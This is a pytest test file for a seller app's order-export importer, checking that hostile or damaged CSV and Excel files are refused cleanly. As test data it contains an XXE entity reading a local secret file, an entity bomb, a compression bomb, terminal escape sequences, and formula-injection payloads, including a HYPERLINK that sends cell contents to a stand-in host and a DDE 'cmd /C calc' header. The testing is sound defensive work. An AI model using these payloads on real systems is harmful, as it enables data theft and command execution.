"""Hostile and damaged order exports: each is refused in one line naming the problem (exit 2), or
costs only the row it is in (named with its column); nothing raises, hangs or eats memory, and a
row that fails -- in reading, in assessing, in drawing its form -- never stops the others."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import zipfile
from pathlib import Path

import pytest

from seller_app.batch import reader
from seller_app.cli import main
from tests.conftest import NOW

from .conftest import TAOBAO_HEADER, taobao_row, write_csv, write_xlsx

FILLED = ("--incident", "loss", "--weight", "2", "--jobs", "1", "--no-store")


@pytest.fixture(autouse=True)
def clock(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("seller_app.cli.common.now", lambda: NOW)


def batch(
    capsys: pytest.CaptureFixture[str], orders: Path, out: Path, *extra: str
) -> tuple[int, str, str]:
    code = main(["batch", str(orders), "--out", str(out), *FILLED, "--form", "none", *extra])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.out + captured.err
    return code, captured.out, captured.err


def summary(out: Path) -> list[dict[str, str]]:
    with (out / "summary.csv").open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def refused_in_one_line(capsys: pytest.CaptureFixture[str], path: Path, tmp: Path) -> str:
    code, out, err = batch(capsys, path, tmp / "out")
    assert code == 2, out + err
    assert out == "" and len(err.strip().splitlines()) == 1
    assert not (tmp / "out").exists()  # nothing made
    return err


def gbk_csv(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([list(TAOBAO_HEADER), *rows])
    return buffer.getvalue().encode("gbk")


# ------------------------------------------------------------------ damaged text


def test_one_invalid_byte_in_a_gbk_file_costs_only_its_row_naming_the_column(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = gbk_csv([taobao_row(1), taobao_row(2, 收货人姓名="王五"), taobao_row(3)])
    broken = data.replace("王五".encode("gbk"), b"\xff\xfe", 1)  # not GBK, not UTF-8
    orders = tmp_path / "o.csv"
    orders.write_bytes(broken)
    code, out, _ = batch(capsys, orders, tmp_path / "out")
    assert code == 3
    assert "第 3 行 收货人姓名：这一格含有无法识别的字节" in out
    assert [line["可索赔"] for line in summary(tmp_path / "out")] == ["是", "", "是"]


def test_an_invalid_byte_in_a_column_no_claim_uses_costs_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    header = (*TAOBAO_HEADER, "买家留言")
    rows = [[*taobao_row(n), "尽快发货"] for n in range(3)]
    orders = write_csv(tmp_path / "o.csv", header, rows, "gbk")
    orders.write_bytes(orders.read_bytes().replace("尽快".encode("gbk"), b"\x80\xff", 1))
    code, out, _ = batch(capsys, orders, tmp_path / "out")
    assert code == 0, out


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (os.urandom(4096).replace(b"PK", b"pk"), "不是 CSV 或 Excel 表格"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048), "是旧版 Excel 文件（.xls）"),
        ("<html><body><table><tr><td>订单编号</td></tr></table>".encode(), "网页或 XML 格式"),
        (b"PK\x03\x04" + os.urandom(512), "无法打开 Excel 文件"),
        (b"", "找不到表头"),
    ],
    ids=["random-binary", "old-xls", "html-table", "broken-zip", "empty"],
)
def test_a_file_that_is_no_table_is_refused_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: bytes, message: str
) -> None:
    path = tmp_path / "orders.csv"
    path.write_bytes(content)
    assert message in refused_in_one_line(capsys, path, tmp_path)


def test_a_zip_that_is_not_a_workbook_is_named(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "orders.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    assert "不是 Excel 表格" in refused_in_one_line(capsys, path, tmp_path)


# ------------------------------------------------------------------ sizes


def test_a_128_kb_cell_costs_its_row_naming_row_and_column(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [taobao_row(1), taobao_row(2, 商品="碗" * 131072), taobao_row(3)]
    orders = write_csv(tmp_path / "o.csv", TAOBAO_HEADER, rows, "utf-8")
    code, out, _ = batch(capsys, orders, tmp_path / "out")
    assert code == 3
    assert "第 3 行 商品：这一格有 131072 个字符，超过 32767 的上限" in out
    assert len(summary(tmp_path / "out")) == 3


def test_a_cell_past_the_parser_limit_costs_only_its_row(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    orders = tmp_path / "o.csv"
    lines = [",".join(TAOBAO_HEADER), ",".join(taobao_row(1))]
    lines.append(",".join(taobao_row(2, 商品="碗" * (reader.CSV_FIELD_LIMIT + 10))))
    lines.append(",".join(taobao_row(3)))
    orders.write_text("\n".join(lines) + "\n", encoding="utf-8")
    code, out, _ = batch(capsys, orders, tmp_path / "out")
    assert code == 3
    assert "第 3 行：这一行无法读取（有一格超过 1 MB，或引号未闭合）" in out
    assert [line["可索赔"] for line in summary(tmp_path / "out")] == ["是", "", "是"]


def test_an_unclosed_quote_costs_the_rows_it_swallows_not_the_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [",".join(taobao_row(n)) for n in range(3)]
    rows[1] = rows[1].replace("陶瓷餐具套装", '"陶瓷餐具套装')
    orders = tmp_path / "o.csv"
    orders.write_text(",".join(TAOBAO_HEADER) + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    code, out, _ = batch(capsys, orders, tmp_path / "out")
    assert code == 3, out
    assert "第 2 行" not in out  # the row before it is a claim
    assert summary(tmp_path / "out")[0]["可索赔"] == "是"


def test_a_file_over_the_size_limit_is_refused_before_reading(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    orders = write_csv(tmp_path / "o.csv", TAOBAO_HEADER, [taobao_row(n) for n in range(50)])
    monkeypatch.setattr(reader, "MAX_FILE_BYTES", 1024)
    monkeypatch.setattr(reader.open_regular, "__defaults__", (1024,))
    err = refused_in_one_line(capsys, orders, tmp_path)
    assert "超过 1 KB 的上限" in err


def test_rows_wider_than_any_export_are_cut(tmp_path: Path) -> None:
    orders = tmp_path / "o.csv"
    orders.write_text(",".join(TAOBAO_HEADER) + "\n" + "x," * 100_000 + "\n", encoding="utf-8")
    rows = list(reader.open_table(orders).rows())
    assert len(rows[1].cells) == reader.MAX_COLUMNS


# ------------------------------------------------------------------ hostile workbooks


def rewrite_sheet(path: Path, change: str, prefix: str = "") -> Path:
    """The workbook at `path` with its first sheet's first cell replaced by `change`
    (raw XML) and `prefix` (a DOCTYPE) before the sheet's root element."""
    with zipfile.ZipFile(path) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    # openpyxl writes CJK as character references when lxml is installed (pikepdf brings it)
    sheet = re.sub(
        r"&#(\d+);", lambda m: chr(int(m.group(1))) if int(m.group(1)) > 127 else m[0], sheet
    )
    start = sheet.index("<worksheet")
    sheet = prefix + sheet[start:].replace("<t>订单编号</t>", change, 1)
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return path


def small_workbook(tmp_path: Path) -> Path:
    return write_xlsx(tmp_path / "o.xlsx", TAOBAO_HEADER, [taobao_row(1)])


def test_an_external_entity_in_a_workbook_is_refused_and_never_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-42", encoding="utf-8")
    doctype = f'<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file://{secret}">]>'
    path = rewrite_sheet(small_workbook(tmp_path), "<t>&e;</t>", doctype)
    err = refused_in_one_line(capsys, path, tmp_path)
    assert "TOP-SECRET-42" not in err
    assert "不允许的 XML 内容" in err


def test_an_entity_bomb_in_a_workbook_is_refused_at_once(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    entities = (
        '<!ENTITY a "'
        + "x" * 50
        + '">'
        + "".join(f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 20 + '">' for i in range(8))
    )
    path = rewrite_sheet(
        small_workbook(tmp_path), "<t>&i;</t>", f"<!DOCTYPE worksheet [{entities}]>"
    )
    assert "不允许的 XML 内容" in refused_in_one_line(capsys, path, tmp_path)


def test_a_workbook_that_inflates_past_the_limit_is_refused_before_parsing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = small_workbook(tmp_path)
    padding = "<c><v>0</v></c>" * 200_000  # 3 MB of XML that packs into a few KB
    rewrite_sheet(path, f'<t>订单编号</t></is></c>{padding}<c t="inlineStr"><is><t>x</t>')
    monkeypatch.setattr(reader, "MAX_XLSX_PART_BYTES", 1 << 20)
    err = refused_in_one_line(capsys, path, tmp_path)
    assert "解压后过大" in err and "xl/worksheets/sheet1.xml" in err


def test_a_compression_bomb_is_refused_by_its_ratio(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = small_workbook(tmp_path)
    rewrite_sheet(path, "<t>订单编号</t>" + " " * 3_000_000)
    monkeypatch.setattr(reader, "_RATIO_CHECKED_ABOVE", 1 << 20)
    assert "解压后过大" in refused_in_one_line(capsys, path, tmp_path)


def test_a_lying_dimension_does_not_pad_every_row(tmp_path: Path) -> None:
    path = small_workbook(tmp_path)
    with zipfile.ZipFile(path) as source:
        sheet = source.read("xl/worksheets/sheet1.xml").decode()
    assert '<dimension ref="A1:H2"' in sheet
    rewrite_sheet(path, "<t>订单编号</t>")
    with zipfile.ZipFile(path) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(
        b"A1:H2", b"A1:XFD1048576"
    )
    with zipfile.ZipFile(path, "w") as target:
        for name, data in parts.items():
            target.writestr(name, data)
    rows = list(reader.open_table(path).rows())
    assert len(rows) == 2 and len(rows[1].cells) == len(TAOBAO_HEADER)


# ------------------------------------------------------------------ not a regular file


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_is_refused_at_once(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    fifo = tmp_path / "orders.csv"
    os.mkfifo(fifo)
    assert "不是普通文件" in refused_in_one_line(capsys, fifo, tmp_path)


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero")
def test_a_symlink_to_a_device_is_refused_at_once(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    link = tmp_path / "orders.csv"
    link.symlink_to("/dev/zero")
    assert "不是普通文件" in refused_in_one_line(capsys, link, tmp_path)


def test_a_folder_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "orders.csv"
    folder.mkdir()
    assert "不是普通文件" in refused_in_one_line(capsys, folder, tmp_path)


# ------------------------------------------------------------------ what the run writes


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_summary_cells_that_a_spreadsheet_would_run_are_neutralised(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], start: str
) -> None:
    formula = f'{start}HYPERLINK("http://x.invalid/?"&A1,"点我")'
    header = (*TAOBAO_HEADER[:-1], f"{start}cmd|' /C calc'!A0")  # a hostile header, too
    rows = [taobao_row(1, 订单编号=formula), taobao_row(2, 物流单号=formula)]
    orders = write_csv(tmp_path / "o.csv", header, [row[:-1] + ["12"] for row in rows])
    batch(capsys, orders, tmp_path / "out", "--service-fee", "12")
    text = (tmp_path / "out" / "summary.csv").read_text(encoding="utf-8-sig")
    for record in csv.reader(io.StringIO(text)):
        for cell in record:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")), cell


def test_case_files_are_readable_by_the_seller_only(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    orders = write_csv(tmp_path / "o.csv", TAOBAO_HEADER, [taobao_row(n) for n in range(2)])
    out = tmp_path / "out"
    code, _, _ = batch(capsys, orders, out)
    assert code == 0
    cases = list((out / "cases").glob("*.json"))
    assert len(cases) == 2
    for path in cases:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE((out / "cases").stat().st_mode) == 0o700


def test_control_characters_from_a_cell_never_reach_the_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [
        taobao_row(1, 商品="\x1b[2J\x1b]0;pwned\x07杯子"),  # refused: no export writes these
        taobao_row(2, 金额="-5\u202e"),  # a bidi override, echoed as an escape
    ]
    orders = write_csv(tmp_path / "o.csv", TAOBAO_HEADER, rows)
    code, out, err = batch(capsys, orders, tmp_path / "out")
    assert code == 3
    assert "\x1b" not in out + err and "\u202e" not in out + err
    assert "第 2 行 商品：这一格含有控制字符" in out
    assert "不是有效金额或数字：-5\\u202e" in out
